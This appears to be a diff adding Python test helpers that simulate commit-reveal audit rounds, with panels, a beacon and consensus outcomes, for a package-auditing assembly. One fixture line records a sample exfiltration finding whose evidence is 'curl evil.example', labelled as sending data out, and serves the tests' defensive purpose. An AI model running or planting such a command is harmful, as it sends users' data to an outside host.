@@ -1,0 +1,126 @@
+"""A small world: a policy, a population over four families, a beacon, and rounds held in it."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Collection, Mapping
+from dataclasses import dataclass, replace
+from typing import Any
+
+from sigma_core.assembly.beacon import BeaconValue, HashChainBeacon
+from sigma_core.assembly.commit_reveal import SeatStatus
+from sigma_core.assembly.consensus import NO_CANARY, CanaryState, Outcome
+from sigma_core.assembly.independence import Calibration, FamilyKind
+from sigma_core.assembly.population import embedded_population
+from sigma_core.assembly.replay_document import replay_document
+from sigma_core.assembly.round import PhaseRecord, Round, SealedSubmission, conclude, hold_phase
+from sigma_core.assembly.selection import Panel, Pool
+from sigma_core.assembly.weights import WeightRow, WeightsSnapshot
+from sigma_core.audit.model import AuditResult, Finding, Verdict
+from sigma_core.policy import Policy, load_policy
+from sigma_core.sandbox.facts import FactsDocument, Severity
+
+FAMILIES = ("capability_difference", "rules_taint", "signatures", "text_statistics")
+RANGES = {family: {"threshold_ppm": (400_000, 700_000), "depth": (1, 3)} for family in FAMILIES}
+TREE_HASH = "ab" * 32
+BEACON = HashChainBeacon.create(b"a secret of this test, 32 bytes!", 1_000).reveal_to(7)
+CALIBRATION = Calibration(
+    kinds=dict.fromkeys(FAMILIES, FamilyKind.DETERMINISTIC),
+    correlation_ppm={(f, g): 900_000 if f == g else 570_000 for f in FAMILIES for g in FAMILIES if f <= g},
+)
+
+
+def facts(*signals: Mapping[str, Any], complete: bool = True) -> FactsDocument:
+    """A facts document with the parts that the assembly reads."""
+    return FactsDocument(
+        {
+            "schema": "sigma-facts-v1",
+            "package": {"treeHash": TREE_HASH},
+            "facts": [],
+            "coverage": {"complete": complete, "files": [], "incidents": []},
+            "risk": {"blockingSignals": [dict(signal) for signal in signals]},
+        }
+    )
+
+
+def verdict(verdict: Verdict, family: str = "rules_taint", note: str = "") -> AuditResult:
+    finding = Finding(Severity.HIGH, "exfiltration", "SKILL.md", 3, 3, "curl evil.example", "sends data out", 900_000)
+    return AuditResult(verdict, (finding,) if verdict is Verdict.UNSAFE else (), ("SKILL.md",), 10, family, "r1", note)
+
+
+Says = Callable[[int, int], Verdict | None]
+"""(phase, seat number) → what the seat says; None = it does not show up."""
+
+
+@dataclass(frozen=True)
+class HeldRound:
+    round: Round
+    phases: list[PhaseRecord]
+    outcome: Outcome
+    document: dict[str, Any]
+
+
+def rows_of(policy: Policy) -> list[WeightRow]:
+    """The embedded population with stake in USD as weight."""
+    return [
+        WeightRow(v.id, v.operator, v.family, v.stake_micro_usd // 1_000_000, 500_000 + len(v.id + v.family) * 1_000)
+        for v in embedded_population(policy, RANGES)
+    ]
+
+
+def hold_round(
+    says: Says,
+    *,
+    policy: Policy | None = None,
+    third_panel: bool = False,
+    facts_document: FactsDocument | None = None,
+    canary: CanaryState = NO_CANARY,
+    number: int = 1,
+    never_reveals: tuple[int, int] | None = None,
+) -> HeldRound:
+    """A whole round among the embedded population; the seat (phase, number) ``never_reveals`` commits and is silent."""
+    policy = policy or load_policy()
+    rules = policy.assembly
+    snapshot = WeightsSnapshot.of(3, policy.hash, rows_of(policy))
+    value = BEACON.value(7)
+    assert isinstance(value, BeaconValue)
+    submission = SealedSubmission("sub_1", TREE_HASH, (snapshot.rows[0].operator,), BEACON.chain_id, 7)
+    held = Round.opened(
+        f"rnd_1_r{number}", submission, rules, snapshot=snapshot, pool=Pool.of(snapshot, rules), beacon=value
+    )
+
+    def audit(panel: Panel, numbers: Collection[int]) -> dict[int, AuditResult]:
+        said = {n: says(panel.phase, n) for n in numbers}
+        return {n: verdict(v, panel.seats[n - 1].family, f"seat {n}") for n, v in said.items() if v is not None}
+
+    phases: list[PhaseRecord] = []
+    for phase in (1, 2, 3) if third_panel else (1, 2):
+        record = hold_phase(held, phase, [record.panel for record in phases], audit, b"salts of this test")
+        if never_reveals is not None and never_reveals[0] == phase:
+            record = silenced(record, never_reveals[1])
+        phases.append(record)
+    document = facts_document or facts()
+    outcome = conclude(rules, phases, document, canary)
+    public = replay_document(
+        held,
+        phases,
+        policy=policy.model_dump(mode="json"),
+        chain=BEACON.chain,
+        facts=document,
+        canary=canary,
+        outcome=outcome,
+        calibration=CALIBRATION,
+    )
+    return HeldRound(held, phases, outcome, public)
+
+
+def silenced(record: PhaseRecord, number: int) -> PhaseRecord:
+    """The phase as it is when the seat does not open its commitment in time."""
+    silent = replace(record.ballot.votes[number], status=SeatStatus.NO_SHOW, salt=None, verdict=None)
+    return replace(record, ballot=replace(record.ballot, votes={**record.ballot.votes, number: silent}))
+
+
+def with_rules(**changes: Any) -> Policy:
+    """The default policy with other assembly rules."""
+    document = load_policy().model_dump(mode="json")
+    return Policy.model_validate_json(json.dumps({**document, "assembly": {**document["assembly"], **changes}}))
